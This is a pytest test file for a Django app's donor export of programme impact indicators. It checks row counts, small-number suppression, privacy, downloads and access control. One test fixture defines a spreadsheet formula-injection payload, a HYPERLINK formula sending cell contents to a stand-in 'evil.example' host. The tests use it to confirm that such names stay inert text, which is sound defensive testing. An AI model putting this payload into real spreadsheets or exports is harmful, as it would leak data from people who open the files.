"""The donor export: one row per indicator × period × disaggregation with baseline, target
and actual; the activities counted; how it was made. Exact for the programme's organisers,
suppressed for everyone else; safe to open; another programme's is a 404."""

import csv
import io
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

from django.urls import reverse

import openpyxl
import pytest

from home.models import StandardPage
from impact.enums import IndicatorMeasure, LedgerPeriod, ManualEntryStatus, ParticipationKind
from impact.export import donor_export_build, donor_xlsx, indicator_headers
from impact.models import Indicator, IndicatorTarget, ManualEntry, Participation
from impact.services import participation_record
from tests.factories import OrganisationFactory, totp_activate

pytestmark = pytest.mark.django_db

SUPPORTED = ParticipationKind.WOMEN_SUPPORTED
TRAINED = ParticipationKind.EVENT_ATTENDED
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
COLUMNS = {name: index for index, name in enumerate(indicator_headers())}


def at(month: int, day: int = 10) -> datetime:
    return datetime(2025, month, day, 10, tzinfo=UTC)


@pytest.fixture
def programme(programme):
    """The ``organiser`` fixture's programme, over 2025: four quarters, all past."""
    programme.starts_on = date(2025, 1, 1)
    programme.ends_on = date(2025, 12, 31)
    programme.funder = "European Commission (CERV)"
    programme.grant_number = "101143256"
    programme.save()
    return programme


def indicator_make(programme, **fields) -> Indicator:
    fields.setdefault("unit", "women")
    fields.setdefault("measure", IndicatorMeasure.COUNT)
    fields.setdefault("period", LedgerPeriod.QUARTER)
    indicator = Indicator(programme=programme, **fields)
    indicator.full_clean()
    indicator.save()
    return indicator


def counted(programme, count, when, *, kind, activity=None, person=None, **attributes):
    participation_record(
        kind=kind,
        source=OrganisationFactory(),
        person=person,
        count=count,
        occurred_at=when,
        aggregate_key=f"{kind}-{when:%Y%m%d}-{sorted(attributes.items())}",
        attributes=attributes,
        programmes=[programme.pk],
        activity=activity,
    )


@pytest.fixture
def training(home_page):
    page = StandardPage(title="Training in Vilnius", slug="training")
    home_page.add_child(instance=page)
    return page


@pytest.fixture
def world(programme, training, professional):
    """ "Women supported" (1.1): 10 women in the police in Q1, 3 men in health in Q2 (one of
    them a named person), 4 more entered by hand in Q3 and approved; by gender (six
    answers) and sector (two seen). And an indicator whose name is a formula: 7 in Q3."""
    supported = indicator_make(
        programme,
        code="1.1",
        name="Women supported",
        kinds=[SUPPORTED],
        baseline=2,
        target=60,
        breakdowns=["gender", "sector"],
        means_of_verification="Attendance sheets",
        sort_order=1,
    )
    IndicatorTarget.objects.create(indicator=supported, period_start=date(2025, 4, 1), target=20)
    evil = indicator_make(programme, code="1.2", name=EVIL, kinds=[TRAINED], sort_order=2)
    counted(
        programme, 10, at(2), kind=SUPPORTED, activity=training, gender="woman", sector="police"
    )
    counted(programme, 2, at(5), kind=SUPPORTED, activity=training, gender="man", sector="health")
    participation_record(
        kind=SUPPORTED,
        source=training,
        person=professional,
        occurred_at=at(5, 12),
        attributes={"gender": "man", "sector": "health"},
        programmes=[programme.pk],
        activity=training,
    )
    # A person's row carries her profile's snapshot: say what it holds.
    Participation.objects.filter(person=professional).update(gender="man", sector="health")
    ManualEntry.objects.create(
        indicator=supported,
        period_start=date(2025, 7, 1),
        period_end=date(2025, 9, 30),
        value=4,
        note="Walk-in counselling, paper register",
        status=ManualEntryStatus.APPROVED,
        decided_at=datetime(2025, 10, 2, 9, tzinfo=UTC),
    )
    counted(programme, 7, at(8), kind=TRAINED)
    return {"supported": supported, "evil": evil}


def workbook(response) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(response.content))


def rows_of(sheet) -> list[tuple]:
    return list(sheet.iter_rows(min_row=2, values_only=True))


def logged_in(client, user):
    totp_activate(user)
    client.force_login(user)
    return client


def url(programme, fmt="xlsx") -> str:
    return reverse("impact_admin:donor_export", args=[programme.pk, fmt])


# --- The matrix -------------------------------------------------------------------------------


def test_each_indicator_has_a_row_per_period_and_disaggregation(
    client, organiser, programme, world
):
    response = logged_in(client, organiser).get(url(programme))

    indicators = rows_of(workbook(response)["Indicators"])
    per_indicator = {}
    for row in indicators:
        per_indicator[row[COLUMNS["Reference"]]] = (
            per_indicator.get(row[COLUMNS["Reference"]], 0) + 1
        )
    # (whole programme + 4 quarters) × (total + 6 gender answers + 2 sectors seen), and
    # (whole programme + 4 quarters) × total.
    assert per_indicator == {"1.1": 5 * (1 + 6 + 2), "1.2": 5 * 1}


def test_the_matrix_holds_the_computed_numbers_for_an_organiser(
    client, organiser, programme, world
):
    response = logged_in(client, organiser).get(url(programme))

    rows = rows_of(workbook(response)["Indicators"])
    by_key = {
        (
            row[COLUMNS["Reference"]],
            row[COLUMNS["Period"]],
            row[COLUMNS["Disaggregation"]],
            row[COLUMNS["Category"]],
        ): row
        for row in rows
    }
    whole = by_key[("1.1", "Whole programme", "Total", "All")]
    assert whole == (
        "Test programme",
        "1.1",
        "Women supported",
        "Output",
        "women",
        "Sum of counts",
        "Cumulative (to the end of each period)",
        "Whole programme",
        datetime(2025, 1, 1),
        datetime(2025, 12, 31),
        "Total",
        "All",
        2,
        60,
        17,
        4,
        28,
        "Behind",
        "Attendance sheets",
    )
    assert [
        by_key[("1.1", "2025 Q2", "Total", "All")][COLUMNS["Target"] : COLUMNS["Progress (%)"] + 1],
        by_key[("1.1", "2025 Q3", "Total", "All")][
            COLUMNS["Actual"] : COLUMNS["Of which manual"] + 1
        ],
        by_key[("1.1", "2025 Q2", "Gender", "Man")][COLUMNS["Actual"]],
        by_key[("1.1", "2025 Q1", "Sector", "Police")][COLUMNS["Actual"]],
        by_key[("1.1", "Whole programme", "Gender", "Not known")][COLUMNS["Actual"]],
        by_key[("1.1", "2025 Q2", "Total", "All")][
            COLUMNS["Period start"] : COLUMNS["Period end"] + 1
        ],
    ] == [(20, 13, 0, 65), (17, 4), 3, 10, 0, (datetime(2025, 4, 1), datetime(2025, 6, 30))]


def test_someone_who_is_not_the_programmes_organiser_gets_small_numbers_hidden(
    client, superuser, programme, world
):
    response = logged_in(client, superuser).get(url(programme))

    rows = rows_of(workbook(response)["Indicators"])
    actual = [row[COLUMNS["Actual"]] for row in rows]
    men = [
        row[COLUMNS["Actual"]]
        for row in rows
        if row[COLUMNS["Reference"]] == "1.1" and row[COLUMNS["Category"]] == "Man"
    ]
    assert [value for value in actual if isinstance(value, int) and 0 < value < 5] == []
    assert men == ["<5"] * 5 and "<5" in actual


# --- Safe to open -----------------------------------------------------------------------------


def test_a_name_that_looks_like_a_formula_stays_text(client, organiser, programme, world):
    client = logged_in(client, organiser)

    book = workbook(client.get(url(programme)))
    text = client.get(url(programme, "csv")).content.decode("utf-8-sig")

    cells = [
        cell
        for row in book["Indicators"].iter_rows(min_row=2)
        for cell in row
        if cell.value == EVIL
    ]
    csv_names = {row[COLUMNS["Indicator"]] for row in list(csv.reader(io.StringIO(text)))[1:]}
    assert len(cells) == 5 and {cell.data_type for cell in cells} == {"s"}
    assert csv_names == {"Women supported", "'" + EVIL}


def test_the_workbook_reads_well(client, organiser, programme, world):
    book = workbook(logged_in(client, organiser).get(url(programme)))

    sheet = book["Indicators"]
    about = {row[0]: row[1] for row in rows_of(book["About"])}
    assert book.sheetnames == ["Indicators", "Evidence", "About"]
    assert [cell.font.bold for cell in sheet[1]] == [True] * len(COLUMNS)
    assert (sheet.freeze_panes, book["Evidence"].freeze_panes) == ("A2", "A2")
    assert sheet.column_dimensions["C"].width > 8
    start = sheet.cell(row=2, column=COLUMNS["Period start"] + 1)
    assert start.is_date and start.number_format == "yyyy-mm-dd"
    assert (
        about["Programme"],
        about["Funder"],
        about["Contract or grant number"],
        isinstance(about["Generated at"], datetime),
        about["Time zone"],
    ) == (
        "Test programme",
        "European Commission (CERV)",
        "101143256",
        True,
        "Eastern European Time (Europe/Vilnius)",
    )


# --- Evidence ---------------------------------------------------------------------------------


def test_the_evidence_lists_the_activities_and_approved_entries_never_people(
    client, organiser, programme, world, professional
):
    book = workbook(logged_in(client, organiser).get(url(programme)))

    evidence = rows_of(book["Evidence"])
    everything = " ".join(
        str(value) for sheet in book for row in sheet.iter_rows(values_only=True) for value in row
    )
    assert [row[:4] + row[7:] for row in evidence if row[0] == "1.1"] == [
        ("1.1", "Women supported", "Activity on the platform", "Training in Vilnius", 3, 13, None),
        (
            "1.1",
            "Women supported",
            "Manual entry (approved)",
            "Walk-in counselling, paper register",
            None,
            4,
            datetime(2025, 10, 2),
        ),
    ]
    assert professional.email not in everything
    assert str(professional.profile.display_name or professional.email) not in everything


# --- CSV --------------------------------------------------------------------------------------


def test_the_csv_is_the_indicators_sheet(client, organiser, programme, world):
    client = logged_in(client, organiser)

    xlsx = client.get(url(programme))
    response = client.get(url(programme, "csv"))

    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
    assert response.content.startswith("\ufeff".encode())
    assert lines[0][0] == "\ufeffProgramme"
    assert len(lines) - 1 == len(rows_of(workbook(xlsx)["Indicators"]))
    assert (lines[1][COLUMNS["Period start"]], lines[1][COLUMNS["Actual"]]) == ("2025-01-01", "17")


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_download_is_named_for_the_programme_and_never_cached(
    client, organiser, programme, world, fmt
):
    response = logged_in(client, organiser).get(url(programme, fmt))

    day = datetime.now(ZoneInfo("Europe/Vilnius")).strftime("%Y%m%d")  # the programme's
    assert (
        response.status_code,
        "no-store" in response["Cache-Control"].split(", "),
        response["Content-Disposition"],
    ) == (200, True, f'attachment; filename="linkage-impact-test-{day}.{fmt}"')


# --- Who may download -------------------------------------------------------------------------


def test_another_programmes_organiser_gets_a_404(client, other_organiser, programme, world):
    response = logged_in(client, other_organiser).get(url(programme))

    assert response.status_code == 404


def test_an_unknown_format_is_a_404(client, organiser, programme, world):
    response = logged_in(client, organiser).get(url(programme, "pdf"))

    assert response.status_code == 404


# Whether the reader may see small numbers, the indicators with their stored values, their
# regions; per indicator its evidence (whether the reader may see small numbers, the
# grouped rows, the activities' names: pages here) and the approved manual entries: the
# same however many periods and rows the file has.
EXPORT_QUERIES = 9


@pytest.mark.parametrize("period", [LedgerPeriod.QUARTER, LedgerPeriod.MONTH])
def test_the_export_costs_the_same_queries_however_many_rows_it_has(
    programme, world, organiser, period, django_assert_num_queries
):
    for indicator in Indicator.objects.filter(programme=programme):
        indicator.period = period
        indicator.save()  # its stored value is stale: computed again below
    donor_export_build(programme=programme, user=organiser)

    with django_assert_num_queries(EXPORT_QUERIES):
        export = donor_export_build(programme=programme, user=organiser)
        donor_xlsx(export)

    assert (
        len(export.indicators.rows) == {LedgerPeriod.QUARTER: 50, LedgerPeriod.MONTH: 130}[period]
    )
